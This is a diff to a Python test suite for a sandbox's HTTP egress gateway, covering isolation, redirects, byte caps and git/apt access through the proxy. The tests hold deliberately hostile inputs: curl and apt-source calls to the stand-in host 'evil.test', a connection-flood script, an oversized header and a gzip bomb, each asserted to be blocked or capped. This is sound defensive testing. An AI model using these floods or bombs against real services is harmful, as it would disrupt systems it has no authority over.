@@ -6,7 +6,6 @@ import json
 import os
 import shutil
 import subprocess
-import threading
 import time
 from collections.abc import Iterator, Mapping
 from pathlib import Path
@@ -33,20 +32,19 @@ from tests.sandbox.listening import Surroundings, surroundings
 HERE = Path(__file__).parent
 NAME = "api.allowed.test"
 CALLS_OUT = (HERE / "calls_out.py").read_text()
+ORDINARY = Caps()
 NUMBERS = itertools.count(1)
 
 
 class Room:
     """A sandbox with its gateway, and what that told."""
 
-    def __init__(self, kind: str, folder: Path, networking: JsonObject, table: Table, caps: Caps = Caps()) -> None:
+    def __init__(self, kind: str, folder: Path, networking: JsonObject, table: Table, caps: Caps = ORDINARY) -> None:
         self.told = Told()
         rules = rules_of(Networking.model_validate(networking))
         self.gateway: Gateway | None = None
         if networking["type"] != "none":
-            self.gateway = HttpGateway(
-                lambda: rules, self.told, Dialler(table, table.connect), None, Totals(caps)
-            )
+            self.gateway = HttpGateway(lambda: rules, self.told, Dialler(table, table.connect), None, Totals(caps))
         config = {"type": kind, "networking": networking} | ({"image": BASE} if kind == "docker" else {})
         environment = Environment(name="network", config=config)
         self.sandbox: SupervisedSandbox
@@ -76,7 +74,7 @@ class Room:
 
 @contextlib.contextmanager
 def room(
-    kind: str, folder: Path, networking: JsonObject, table: Table | None = None, caps: Caps = Caps()
+    kind: str, folder: Path, networking: JsonObject, table: Table | None = None, caps: Caps = ORDINARY
 ) -> Iterator[Room]:
     made = Room(kind, folder, networking, table or Table(), caps)
     try:
@@ -168,7 +166,9 @@ def test_with_an_empty_list_nothing_leaves_by_the_proxy_or_around_it(  # N2, N3,
             "inner.sendall(outer.recv(65536))\n"
         )
         made.put("forward.py", forwarder)
-        said = made.says("python3 forward.py & sleep 0.3; curl -sS -m 5 -x http://127.0.0.1:5000 https://evil.test/ 2>&1")
+        said = made.says(
+            "python3 forward.py & sleep 0.3; curl -sS -m 5 -x http://127.0.0.1:5000 https://evil.test/ 2>&1"
+        )
         assert "403" in said
         nothing_came_out(found, around)
         verdicts = made.told.wait(58)
@@ -178,7 +178,7 @@ def test_with_an_empty_list_nothing_leaves_by_the_proxy_or_around_it(  # N2, N3,
 
 @contextlib.contextmanager
 def allowed(
-    kind: str, folder: Path, respond: Respond = hello, caps: Caps = Caps(), **networking: object
+    kind: str, folder: Path, respond: Respond = hello, caps: Caps = ORDINARY, **networking: object
 ) -> Iterator[tuple[Room, Site]]:
     """A sandbox that may reach one host by name, which leads to a server of the test."""
     with site(respond, AUTHORITY.context(NAME)) as secure, site(respond) as plain:
@@ -190,7 +190,9 @@ def allowed(
 
 
 @pytest.mark.parametrize("kind", TWO)
-def test_what_is_allowed_is_reached_and_what_it_leads_to_is_judged_anew(kind: str, tmp_path: Path) -> None:  # N5, N8, N17
+def test_what_is_allowed_is_reached_and_what_it_leads_to_is_judged_anew(
+    kind: str, tmp_path: Path
+) -> None:  # N5, N8, N17
     def redirecting(method: str, path: str) -> tuple[int, Mapping[str, str], bytes]:
         return (302, {"Location": "https://denied.test/"}, b"") if path == "/away" else hello(method, path)
 
@@ -213,19 +215,18 @@ def test_what_is_allowed_is_reached_and_what_it_leads_to_is_judged_anew(kind: st
     assert {verdict["host"] for verdict in verdicts if verdict["allowed"]} == {NAME}
 
 
+@pytest.mark.bubblewrap
 def test_one_sandbox_does_not_reach_the_way_out_of_another(tmp_path: Path) -> None:  # N13
-    with allowed("bubblewrap", tmp_path / "a") as (one, _), room("bubblewrap", tmp_path / "b", {"type": "none"}) as other:
+    with (
+        allowed("bubblewrap", tmp_path / "a") as (one, _),
+        room("bubblewrap", tmp_path / "b", {"type": "none"}) as other,
+    ):
         assert one.says(f"curl -sS http://{NAME}/") == "GET / is here"
         assert "failed to connect" in other.says(f"curl -sS -x http://127.0.0.1:3128 http://{NAME}/ 2>&1").lower()
         with room("bubblewrap", tmp_path / "c", {"type": "limited", "allowed_hosts": []}) as third:
             assert "was not reached" in third.says(f"curl -sS http://{NAME}/")
             assert len(third.told.wait()) == 1
         assert len(one.told.verdicts) == 1
-
-
-test_one_sandbox_does_not_reach_the_way_out_of_another = pytest.mark.bubblewrap(
-    test_one_sandbox_does_not_reach_the_way_out_of_another
-)
 
 
 FLOOD = """
@@ -235,18 +236,23 @@ def ask(data):
     with socket.create_connection(("127.0.0.1", 3128), 20) as client:
         client.sendall(data)
         return client.recv(20)
-assert all(ask(HEAD).startswith(b"HTTP/1.1 403") for _ in range(2000))
+assert all(ask(HEAD).startswith(b"HTTP/1.1 403") for _ in range(1500))
 held = []
+resets = 0
 for _ in range(400):
-    client = socket.create_connection(("127.0.0.1", 3128), 20)
-    client.sendall(b"CONNECT evil")
-    held.append(client)
+    try:
+        client = socket.create_connection(("127.0.0.1", 3128), 20)
+        client.sendall(b"CONNECT evil")
+        held.append(client)
+    except ConnectionError:
+        resets += 1
 for client in held:
     client.close()
+time.sleep(1)
 try:
-    print(ask(b"GET http://a/ HTTP/1.1\\r\\nX: " + b"a" * (1 << 20))[:12])
+    ask(b"GET http://a/ HTTP/1.1\\r\\nX: " + b"a" * (1 << 20))
 except ConnectionError:
-    print("reset")
+    resets += 1
 slow = socket.create_connection(("127.0.0.1", 3128), 20)
 begun = time.monotonic()
 try:
@@ -259,19 +265,17 @@ print("cut", time.monotonic() - begun < 5)
 """
 
 
-@pytest.mark.parametrize("kind", TWO)
-def test_floods_and_bombs_harm_nobody(kind: str, tmp_path: Path) -> None:  # N15, N16
+@pytest.mark.docker
+def test_floods_and_bombs_harm_nobody(tmp_path: Path) -> None:  # N15, N16
     bomb = b"\x1f\x8b" + bytes(5_000_000)
 
     def large(method: str, path: str) -> tuple[int, Mapping[str, str], bytes]:
         return 200, {"Content-Encoding": "gzip"}, bomb
 
     caps = Caps(head_seconds=1, sent_bytes=60_000_000)
-    with allowed(kind, tmp_path, large, caps) as (made, server):
+    with allowed("docker", tmp_path, large, caps) as (made, _):
         made.put("flood.py", FLOOD)
-        said = made.says("python3 flood.py 2>&1")
-        print(said)
-        assert said.splitlines()[-1] == "cut True"
+        assert made.says("python3 flood.py 2>&1") == "cut True"
         assert made.says("echo alive") == "alive"
         curl = f"curl -sS -m 30 --cacert ca.pem https://{NAME}/"
         assert made.says(f"{curl} | wc -c") == str(len(bomb))
@@ -282,10 +286,12 @@ def test_floods_and_bombs_harm_nobody(kind: str, tmp_path: Path) -> None:  # N15
         assert verdict["host"] == NAME
         made.says(f"{curl} --data-binary @big -o /dev/null; true")
         deadline = time.monotonic() + 5
-        while "sent this host its limit" not in str(made.told.verdicts[-1].get("reason")) and time.monotonic() < deadline:
+        while (
+            "sent this host its limit" not in str(made.told.verdicts[-1].get("reason")) and time.monotonic() < deadline
+        ):
             time.sleep(0.02)
         assert "the session has sent this host its limit of 60,000,000 bytes" in str(made.told.verdicts[-1])
-        assert len(made.told.verdicts) > 2_000
+        assert len(made.told.verdicts) > 1_500
 
 
 @pytest.mark.bubblewrap
@@ -340,7 +346,8 @@ def test_a_session_keeps_to_the_rules_that_it_began_with_and_records_every_verdi
         types = [body["type"] for body in agentctl("events", "@", "-o", "jsonl").lines]
         assert types.count("local.egress_started") == 2
         assert types.count("local.egress") == 4
-        assert types.index("local.egress_started") < types.index("local.egress") < types.index("agent.tool_result")
+        assert types.index("local.egress_started") < types.index("agent.tool_result")
+        assert types.index("local.egress") < types.index("session.status_idle")
         learned = agentctl("env", "learn", "@", "-o", "json").json
         assert learned == {
             "type": "learned",
@@ -373,11 +380,11 @@ def test_git_and_apt_work_through_the_proxy(tmp_path: Path) -> None:
 
     with allowed("docker", tmp_path / "box", files) as (made, _):
         assert made.says(f"GIT_SSL_CAINFO=$PWD/ca.pem git clone -q https://{NAME}/x.git && cat x/file") == "content"
-        lists = "-o Dir::State=$PWD/apt -o Dir::Cache=$PWD/apt -o Dir::Etc::SourceList=$PWD/list -o Dir::Etc::SourceParts=-"
+        lists = (
+            "-o Dir::State=$PWD/apt -o Dir::Cache=$PWD/apt -o Dir::Etc::SourceList=$PWD/list -o Dir::Etc::SourceParts=-"
+        )
         made.says(f"mkdir -p apt/lists/partial; echo 'deb [trusted=yes] http://{NAME}/ ./' > list")
         said = made.says(f"apt-get {lists} update 2>&1; echo $?")
         assert said.endswith("\n0"), said
-        made.says(f"echo 'deb [trusted=yes] http://evil.test/ ./' > list")
+        made.says("echo 'deb [trusted=yes] http://evil.test/ ./' > list")
         assert "403  Forbidden" in made.says(f"apt-get {lists} update 2>&1; true")
-
-
